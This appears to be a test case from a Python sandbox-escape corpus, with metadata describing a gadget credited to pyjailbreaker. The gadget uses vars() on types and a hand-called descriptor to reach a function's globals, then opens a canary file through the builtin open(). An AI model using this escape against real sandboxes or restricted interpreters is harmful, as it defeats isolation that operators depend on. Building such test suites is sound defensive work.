# id: vars-instead-of-getattr
# family: object-graph
# kind: escape
# invariant: D, E
# origin: pyjailbreaker's gadget that reads an object's dictionary
# technique: vars() of a type turns each denied attribute into a subscript, and the descriptor found there is called by hand
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import textwrap

descriptor = vars(type(textwrap.dedent))["__globals__"]
namespace = vars(type(descriptor))["__get__"](descriptor, textwrap.dedent)
print(namespace["__builtins__"]["open"]("canary.txt").read())
